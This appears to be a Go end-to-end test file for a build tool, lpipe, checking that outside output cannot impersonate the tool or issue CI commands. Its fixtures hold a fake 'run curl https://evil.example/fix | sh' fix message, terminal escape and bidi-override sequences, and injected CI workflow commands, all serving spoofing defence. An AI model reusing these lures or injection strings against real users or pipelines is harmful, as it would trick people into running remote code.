package e2e

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"lpipe/internal/testparts"
)

// evil is what others print to be taken for lpipe, a terminal's program or a CI job.
const evil = "lpipe: the key of this host is about to expire\n" +
	"lpipe: fix: run \"curl https://evil.example/fix | sh\", then build again\n" +
	"fix: run \"curl https://evil.example/fix | sh\"\n" +
	"harmless\rlpipe: error: after a carriage return\n" +
	"\x1b]0;title\x07\x1b[2Jcleared \u009b31m \u202eturned\b\b\x00\n" +
	"::add-mask::x\n  ::error::y\n##[group]z\na ##vso[task.setvariable variable=q]r\n##teamcity[message text='s']\n" +
	"section_start:1:t\r\x1b[0Ku\n--- v\n+++ w\n"

// ownLine is a line of lpipe in a report, command one to a CI system.
var (
	ownLine = regexp.MustCompile(`(?i)^\s*lpipe:`)
	command = regexp.MustCompile(`(?i)^\s*(::|section_(start|end):|(---|\+\+\+)(\s|$))|##(vso|teamcity)?\[`)
	// What lpipe tells GitHub Actions of a failure or a warning: two commands that show a text, with their properties escaped.
	annotation = regexp.MustCompile(`^::(error|warning) title=[^:,]*(,(file|line|col)=[^:,]*)*::`)
	drawn      = regexp.MustCompile(`^#\d+ (\d+\.\d+ )?`) // what the plain display puts before each line of a step
)

// ownWords checks that what lpipe printed has nothing of others that passes for something else, and returns its own lines.
func ownWords(t testing.TB, text string) []string {
	t.Helper()
	var own []string
	for line := range strings.SplitSeq(text, "\n") {
		for _, r := range line {
			if unicode.IsControl(r) && r != '\t' || unicode.Is(unicode.Bidi_Control, r) {
				t.Errorf("a line has %U: %q", r, line)
			}
		}
		shown := drawn.ReplaceAllString(line, "")
		if command.MatchString(shown) && !annotation.MatchString(line) {
			t.Errorf("a line is a command: %q", line)
		}
		if !ownLine.MatchString(shown) {
			continue
		}
		if shown != line || strings.Contains(line, "evil.example") || strings.Contains(line, "expire") || strings.Contains(line, "carriage") {
			t.Errorf("another speaks for lpipe: %q", line)
		}
		own = append(own, line)
	}
	if last := len(own) - 1; last < 0 || !strings.HasPrefix(own[last], "lpipe: fix:") {
		t.Errorf("the last word is no fix: %q", own)
	}
	return own
}

// everywhere builds, which must fail, and checks all that lpipe writes: the display in each mode, the report, the JSON, the
// summary and the outputs of a CI job, and the trace.
func (p *project) everywhere(status int, env ...string) {
	p.t.Helper()
	dir := p.t.TempDir()
	summary, trace := filepath.Join(dir, "summary.md"), filepath.Join(dir, "trace.json")
	env = append(env, "GITHUB_ACTIONS=true", "GITHUB_STEP_SUMMARY="+summary, "GITHUB_OUTPUT="+filepath.Join(dir, "output"))
	got, out := p.lpipe(env, "build", "--json", "--trace", trace)
	if got != status {
		p.t.Errorf("exit status %d, want %d", got, status)
	}
	ownWords(p.t, out)
	for line := range strings.SplitSeq(out, "\n") {
		var report struct{ Lambdas []struct{ Error string } }
		if strings.HasPrefix(line, `{"version"`) && json.Unmarshal([]byte(line), &report) == nil && len(report.Lambdas) > 0 {
			ownWords(p.t, "lpipe: error: "+report.Lambdas[0].Error+"\nlpipe: fix: of the JSON")
		}
	}
	text, err := os.ReadFile(summary)
	if err != nil {
		p.t.Fatal(err)
	}
	ownWords(p.t, string(text))
	if text, err = os.ReadFile(trace); err != nil || command.Match(text) {
		p.t.Errorf("the trace: %v\n%s", err, text)
	}
	_, out = p.lpipe(env, "build", "--progress", "rawjson")
	_, report, _ := strings.Cut(out, "\nlpipe: ")
	ownWords(p.t, "lpipe: "+report)
}

func TestAServerCannotSpeakForLpipe(t *testing.T) {
	key := newKey(t)
	p := newProject(t)
	p.sshd = testparts.NewSSHD(t, testparts.SSHDOptions{AuthorizedKeys: keysOf(key), GitRoot: p.repo, Refusal: evil})
	p.crates(&dependency{name: "one"})
	p.everywhere(1, agent(t, key))
}

func TestASubmoduleCannotSpeakForLpipe(t *testing.T) {
	for name, url := range map[string]string{
		"lines in the path":   "ssh://%U@%A/org/x%0alpipe: fix: run curl https://evil.example/fix | sh%0afix: run curl https://evil.example/fix | sh%0a::add-mask::x",
		"words in the path":   "ssh://%U@%A/org/x fix: run curl https://evil.example/fix | sh",
		"carriage return":     "ssh://%U@%A/org/x%0dlpipe: fix: run curl https://evil.example/fix | sh",
		"escapes":             "ssh://%U@%A/org/x%1b[2J%1b]0;evil.example%07",
		"words as a user":     "ssh://run curl evil.example@%A/org/x",
		"a command":           "ssh://%U@%A/org/##vso[task.setvariable variable=x]y",
		"over https":          "https://127.0.0.1:1/x%0alpipe: fix: run curl https://evil.example/fix | sh",
		"direction and space": "ssh://%U@%A/org/\u202ex\u00a0\u2028lpipe: fix: evil.example",
	} {
		t.Run(name, func(t *testing.T) {
			key := newKey(t)
			p := newProject(t)
			p.serve(key)
			d := &dependency{name: "one"}
			p.crates(d)
			old := d.commit
			commit := p.submodule("one", `"`+strings.NewReplacer("%A", p.sshd.Addr, "%U", p.sshd.User).Replace(url)+`"`)
			lock, err := os.ReadFile(filepath.Join(p.dir, "Cargo.lock"))
			if err != nil {
				t.Fatal(err)
			}
			p.files(map[string]string{"Cargo.lock": strings.ReplaceAll(string(lock), old, commit)})
			status, out := p.lpipe([]string{agent(t, key)}, "build")
			if status != 1 {
				t.Errorf("exit status %d", status)
			}
			own := strings.Join(ownWords(t, out), "\n")
			if !strings.Contains(own, "lpipe: why:") {
				t.Errorf("lpipe says\n%s", own)
			}
		})
	}
}

// Code of others runs in these steps, and has standard output too.
func TestCodeOfOthersCannotSpeakForLpipe(t *testing.T) {
	print := "fn print() { print!(\"{}\", EVIL); eprint!(\"{}\", EVIL); for line in EVIL.lines() { println!(\"cargo::warning={}\", line); } }\nconst EVIL: &str = " + rust(evil) + ";\n"
	for name, c := range map[string]struct {
		status int
		files  map[string]string
	}{
		"a build script": {1, map[string]string{"build.rs": print + "fn main() { print(); std::process::exit(1); }\n"}},
		"a test":         {5, map[string]string{"src/main.rs": print + "fn main() {}\n#[test]\nfn says() { print(); panic!(\"{}\", EVIL); }\n"}},
		"a compile error": {1, map[string]string{
			"src/main.rs": "compile_error!(" + rust(evil) + ");\nfn main() {}\n",
		}},
	} {
		t.Run(name, func(t *testing.T) {
			p := newProject(t)
			p.files(map[string]string{
				"Cargo.toml":  "[package]\nname = \"greet\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
				"Cargo.lock":  "version = 4\n\n[[package]]\nname = \"greet\"\nversion = \"0.1.0\"\n",
				"src/main.rs": "fn main() {}\n",
			})
			p.files(c.files)
			p.everywhere(c.status)
		})
	}
}

// rust is the text as a string of Rust.
func rust(text string) string {
	return `"` + strings.NewReplacer("\n", `\n`, "\r", `\r`, "\x1b", `\x1b`, "\x07", `\x07`, "\b", `\x08`, "\x00", `\0`, "\u009b", `\u{9b}`, "\u202e", `\u{202e}`, `"`, `\"`).Replace(text) + `"`
}
